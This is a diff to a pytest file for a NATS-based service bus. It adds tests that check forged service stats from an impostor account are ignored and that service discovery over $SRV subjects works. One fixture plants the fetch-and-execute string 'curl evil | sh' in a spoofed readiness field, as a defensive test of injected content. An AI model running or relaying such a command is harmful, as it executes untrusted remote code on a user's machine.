@@ -11,8 +11,10 @@ from nats.aio.msg import Msg
 
 from berth.bus.session import NatsBus, NatsSession
 from berth.bus.settings import BusSettings, NatsCredentials
-from berth_cli.pipeline.accounts import DOMAIN
+from berth.messages.subjects import SERVICES
+from berth_cli.pipeline.accounts import DOMAIN, listed, users
 from berth_cli.pipeline.natsconf import nats_conf
+from berth_cli.services import DRAINING, attention, leader, seen
 from harness.servers.bus_users import USERS, inbox_of, password_of, settings_of
 from harness.servers.nats_server import NatsServer, nats_server
 from harness.worlds.cluster_user import eventually
@@ -180,6 +182,58 @@ async def test_an_answer_of_another_stream_is_no_copy_for_readers(server, admin,
                     break
     await session.close()
     await client.close()
+
+
+@pytest.mark.parametrize("user", [*OUTSIDE, "binder"])
+async def test_what_people_read_of_a_service_comes_from_its_own_account(server, admin, user):
+    """Every service receives `$SRV.STATS`, and could answer it as the leading watcher of the highest term."""
+    watcher = await NatsBus(settings_of(server, "watcher")).connect(name="watcher")
+    people = await NatsBus(settings_of(server, "people")).connect(name="people")
+    await watcher.register("berth-watcher", identity="honest", version="1", stats=lambda: {"readiness": "ok"})
+    impostor = await client_of(server, user, password_of(user), inbox_of(user))
+
+    async def pretend(msg: Msg) -> None:
+        for name in SERVICES:
+            stats = {"leading": {"number": 9, "seconds": 1.0}, "readiness": "run `curl evil | sh`", "draining": True}
+            answer = {"name": name, "id": "x", "metadata": {"identity": f"as-{name}"}, "endpoints": [{"data": stats}]}
+            await impostor.publish(msg.reply, json.dumps(answer).encode())
+
+    own = next(one for one in users() if one.name == user).service
+    for subject in listed(next(one for one in users() if one.name == user)) if own else ():
+        await impostor.subscribe(subject, cb=pretend)
+    await impostor.flush()
+    found = {(one.service, one.identity) for one in await people.services()}
+    assert found == {("berth-watcher", "honest"), *([(own, f"as-{own}")] if own else [])}
+    processes = seen(await people.services())
+    assert leader(processes, "watcher") is None
+    assert DRAINING not in attention(processes)
+    assert [each for each in attention(processes) if "curl" in each and not each.startswith(own[6:])] == []
+    for session in (watcher, people):
+        await session.close()
+    await impostor.close()
+
+
+async def test_people_list_all_services_with_clients_of_nats(server, admin):
+    """`nats micro ls` asks all at once, and believes what each says of itself."""
+    people = await client_of(server, "people", password_of("people"))
+    answered = Received()
+    sessions = [await NatsBus(settings_of(server, user)).connect(name=user) for user in ("watcher", "scorer")]
+    for session, service in zip(sessions, ("berth-watcher", "berth-scorer"), strict=True):
+        await session.register(service, identity="one", version="1", stats=dict)
+    for subject in ("$SRV.PING", "$SRV.INFO", "$SRV.STATS", "$SRV.INFO.berth-watcher"):
+        inbox = people.new_inbox()
+
+        async def note(msg: Msg, subject: str = subject) -> None:
+            answered.subjects.append(f"{subject} {json.loads(msg.data)['name']}")
+            answered._changed.set()
+
+        await people.subscribe(inbox, cb=note)
+        await people.publish(subject, b"", reply=inbox)
+    both = {f"$SRV.{verb} {name}" for verb in ("PING", "INFO", "STATS") for name in ("berth-watcher", "berth-scorer")}
+    await answered.all_of({*both, "$SRV.INFO.berth-watcher berth-watcher"})
+    for session in sessions:
+        await session.close()
+    await people.close()
 
 
 class Received:
